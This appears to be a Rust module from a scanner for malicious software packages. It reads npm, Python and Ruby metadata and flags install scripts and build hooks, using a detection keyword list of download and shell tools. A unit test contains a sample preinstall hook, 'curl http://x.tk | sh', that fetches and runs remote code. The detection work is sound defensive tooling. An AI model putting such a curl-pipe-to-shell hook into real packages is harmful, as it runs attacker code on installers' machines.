//! Package metadata (issue 7, "Analysis"): the name and version, `package.json` install
//! scripts, `pyproject.toml` build hooks and the documentation text used to tell documented
//! environment variables from undocumented ones. `setup.py` command overrides and its
//! top-level code are found by the code analysis ([`crate::analyze`]).

use crate::{PackageFiles, Severity, Signal, SourceFile};

/// What the metadata says.
#[derive(Debug, Clone, Default)]
pub struct Meta {
    /// Package name.
    pub name: String,
    /// Version, empty when unknown.
    pub version: String,
    /// `python`, `npm`, `ruby` or `unknown`.
    pub ecosystem: String,
    /// Signals from the metadata (install scripts, build hooks).
    pub signals: Vec<Signal>,
    /// Files that run at install time (setup.py, scripts named by install hooks).
    pub install_files: Vec<String>,
}

fn depth(path: &str) -> usize {
    path.matches('/').count()
}

fn shallowest<'a>(package: &'a PackageFiles, names: &[&str]) -> Option<&'a SourceFile> {
    package
        .files
        .iter()
        .filter(|f| {
            let base = f.path.rsplit('/').next().unwrap_or(&f.path);
            names.contains(&base)
        })
        .min_by_key(|f| (depth(&f.path), f.path.len()))
}

/// Documentation text of the package (READMEs, metadata descriptions), for checks such as
/// "is this environment variable documented".
pub fn documented_text(package: &PackageFiles) -> String {
    let mut text = String::new();
    for f in &package.files {
        let base = f
            .path
            .rsplit('/')
            .next()
            .unwrap_or(&f.path)
            .to_ascii_lowercase();
        let doc = base.starts_with("readme")
            || base.ends_with(".md")
            || base.ends_with(".rst")
            || base == "metadata"
            || base == "pkg-info";
        if doc && text.len() < 4 * 1024 * 1024 {
            text.push_str(&String::from_utf8_lossy(&f.bytes));
            text.push('\n');
        }
    }
    text
}

/// Reads the package's metadata.
pub fn read(package: &PackageFiles) -> Meta {
    let mut meta = Meta {
        ecosystem: "unknown".into(),
        ..Meta::default()
    };

    if let Some(f) = shallowest(package, &["package.json"]) {
        meta.ecosystem = "npm".into();
        let text = String::from_utf8_lossy(&f.bytes).into_owned();
        read_package_json(&f.path, &text, &mut meta);
    }
    if let Some(f) = shallowest(package, &["METADATA", "PKG-INFO"]) {
        meta.ecosystem = "python".into();
        let text = String::from_utf8_lossy(&f.bytes);
        for line in text.lines().take(60) {
            if let Some(v) = line.strip_prefix("Name: ") {
                meta.name = v.trim().to_string();
            } else if let Some(v) = line.strip_prefix("Version: ") {
                meta.version = v.trim().to_string();
            }
        }
    }
    if let Some(f) = shallowest(package, &["pyproject.toml"]) {
        if meta.ecosystem == "unknown" {
            meta.ecosystem = "python".into();
        }
        let text = String::from_utf8_lossy(&f.bytes).into_owned();
        read_pyproject(&f.path, &text, &mut meta);
    }
    if let Some(f) = shallowest(package, &["setup.py"]) {
        if meta.ecosystem == "unknown" {
            meta.ecosystem = "python".into();
        }
        meta.install_files.push(f.path.clone());
        if meta.name.is_empty() {
            let text = String::from_utf8_lossy(&f.bytes);
            if let Some(name) = keyword_value(&text, "name") {
                meta.name = name;
            }
            if let Some(version) = keyword_value(&text, "version") {
                meta.version = version;
            }
        }
    }
    if meta.ecosystem == "unknown" && package.files.iter().any(|f| f.path.ends_with(".gemspec")) {
        meta.ecosystem = "ruby".into();
    }
    if meta.ecosystem == "unknown" && package.files.iter().any(|f| f.path.ends_with(".py")) {
        meta.ecosystem = "python".into();
    }
    if meta.name.is_empty() {
        meta.name = name_from_stem(&package.stem);
        if meta.version.is_empty() {
            meta.version = version_from_stem(&package.stem);
        }
    }
    meta
}

/// `name="x"` in a setup() call, when the value is a literal.
fn keyword_value(text: &str, key: &str) -> Option<String> {
    let re = regex::Regex::new(&format!(r#"\b{key}\s*=\s*["']([^"']+)["']"#)).ok()?;
    re.captures(text).map(|c| c[1].to_string())
}

fn name_from_stem(stem: &str) -> String {
    let base = stem
        .trim_end_matches(".tar.gz")
        .trim_end_matches(".tgz")
        .trim_end_matches(".whl")
        .trim_end_matches(".zip")
        .trim_end_matches(".dist-info");
    // name-1.2.3 / name-1.2.3-py3-none-any
    let mut parts = Vec::new();
    for part in base.split('-') {
        if part.chars().next().is_some_and(|c| c.is_ascii_digit()) {
            break;
        }
        parts.push(part);
    }
    if parts.is_empty() {
        base.to_string()
    } else {
        parts.join("-")
    }
}

fn version_from_stem(stem: &str) -> String {
    stem.split('-')
        .find(|p| p.chars().next().is_some_and(|c| c.is_ascii_digit()))
        .map(|v| {
            v.trim_end_matches(".tar.gz")
                .trim_end_matches(".tgz")
                .to_string()
        })
        .unwrap_or_default()
}

/// Install scripts that are routine in the npm ecosystem.
const ROUTINE_SCRIPTS: &[&str] = &[
    "husky",
    "only-allow",
    "node-gyp rebuild",
    "prebuild-install",
    "node-pre-gyp",
    "patch-package",
    "ngcc",
    "opencollective",
    "is-ci",
    "lerna bootstrap",
    "tsc",
    "npm run build",
    "node-gyp-build",
    "cmake-js",
];

fn read_package_json(path: &str, text: &str, meta: &mut Meta) {
    if let Ok(value) = serde_json::from_str::<serde_json::Value>(text) {
        if let Some(n) = value.get("name").and_then(|v| v.as_str()) {
            meta.name = n.to_string();
        }
        if let Some(v) = value.get("version").and_then(|v| v.as_str()) {
            meta.version = v.to_string();
        }
    }
    let scripts = install_scripts(path, text);
    // Files that install scripts run (`node x.js`) execute at install time.
    let dir = path
        .rsplit_once('/')
        .map(|(d, _)| format!("{d}/"))
        .unwrap_or_default();
    for s in &scripts {
        let cmd = s.message.trim_start_matches("runs `");
        for word in cmd.split_whitespace() {
            let w = word.trim_end_matches('`');
            if w.ends_with(".js") || w.ends_with(".cjs") || w.ends_with(".mjs") {
                meta.install_files
                    .push(format!("{dir}{}", w.trim_start_matches("./")));
            }
        }
    }
    meta.signals.extend(scripts);
}

/// `preinstall`/`install`/`postinstall` scripts, found line by line so each signal has its
/// line (also in files that are not strict JSON).
pub fn install_scripts(path: &str, text: &str) -> Vec<Signal> {
    let hooks = "preinstall|install|postinstall|preuninstall|postuninstall";
    let re = regex::Regex::new(&format!(r#""({hooks})"\s*:\s*"((?:[^"\\]|\\.)*)""#))
        .expect("static regex");
    let mut out = Vec::new();
    for (i, line) in text.lines().enumerate() {
        let Some(c) = re.captures(line) else { continue };
        let hook = &c[1];
        let script = &c[2];
        let lower = script.to_ascii_lowercase();
        let lower = lower.trim_start_matches("npx ").to_string();
        if ROUTINE_SCRIPTS
            .iter()
            .any(|r| lower.starts_with(r) || lower == *r)
        {
            continue;
        }
        let severity = if [
            "curl",
            "wget",
            "http://",
            "https://",
            "powershell",
            "base64",
            "eval",
            "| sh",
            "bash -c",
        ]
        .iter()
        .any(|b| lower.contains(b))
        {
            Severity::High
        } else {
            Severity::Low
        };
        let indicators = crate::indicators::hosts_and_urls(script)
            .into_iter()
            .map(|(u, _)| u)
            .collect();
        out.push(Signal {
            code: "install-script".into(),
            severity,
            file: path.to_string(),
            line: i + 1,
            excerpt: line.trim().chars().take(160).collect(),
            indicators,
            message: format!("runs `{script}` at {hook} time"),
            function: "<manifest>".into(),
        });
    }
    out
}

fn read_pyproject(path: &str, text: &str, meta: &mut Meta) {
    let Ok(doc) = text.parse::<toml::Table>() else {
        return;
    };
    if let Some(project) = doc.get("project").and_then(|p| p.as_table()) {
        if meta.name.is_empty() {
            if let Some(n) = project.get("name").and_then(|v| v.as_str()) {
                meta.name = n.to_string();
            }
            if let Some(v) = project.get("version").and_then(|v| v.as_str()) {
                meta.version = v.to_string();
            }
        }
    }
    let line_of = |needle: &str| {
        text.lines()
            .position(|l| l.contains(needle))
            .map(|i| i + 1)
            .unwrap_or(1)
    };
    let mut hook = |needle: &str, severity: Severity, message: String| {
        let line = line_of(needle);
        meta.signals.push(Signal {
            code: "pyproject-build-hook".into(),
            severity,
            file: path.to_string(),
            line,
            excerpt: text.lines().nth(line - 1).unwrap_or("").trim().to_string(),
            indicators: vec![],
            message,
            function: "<manifest>".into(),
        });
    };
    if let Some(bs) = doc.get("build-system").and_then(|b| b.as_table()) {
        if bs.contains_key("backend-path") {
            hook(
                "backend-path",
                Severity::Low,
                "builds with an in-tree build backend".into(),
            );
        }
    }
    let tool = doc.get("tool").and_then(|t| t.as_table());
    if let Some(hatch) = tool.and_then(|t| t.get("hatch")).and_then(|h| h.as_table()) {
        let s = hatch.to_string();
        if s.contains("custom") && s.contains("hooks") {
            hook(
                "hooks.custom",
                Severity::Low,
                "runs a custom Hatch build hook".into(),
            );
        }
    }
    if let Some(st) = tool
        .and_then(|t| t.get("setuptools"))
        .and_then(|h| h.as_table())
    {
        if st.contains_key("cmdclass") {
            hook(
                "cmdclass",
                Severity::Medium,
                "overrides setuptools commands".into(),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_and_versions_come_from_archive_names() {
        assert_eq!(
            name_from_stem("requests-2.32.3-py3-none-any.whl"),
            "requests"
        );
        assert_eq!(
            version_from_stem("requests-2.32.3-py3-none-any.whl"),
            "2.32.3"
        );
        assert_eq!(name_from_stem("left-pad-1.3.0.tgz"), "left-pad");
    }

    #[test]
    fn routine_install_scripts_are_quiet() {
        let text = "{\"scripts\": {\n\"postinstall\": \"husky install\",\n\
                    \"preinstall\": \"curl http://x.tk | sh\"}}";
        let signals = install_scripts("package.json", text);
        assert_eq!(signals.len(), 1);
        assert_eq!(signals[0].line, 3);
        assert_eq!(signals[0].severity, Severity::High);
    }
}
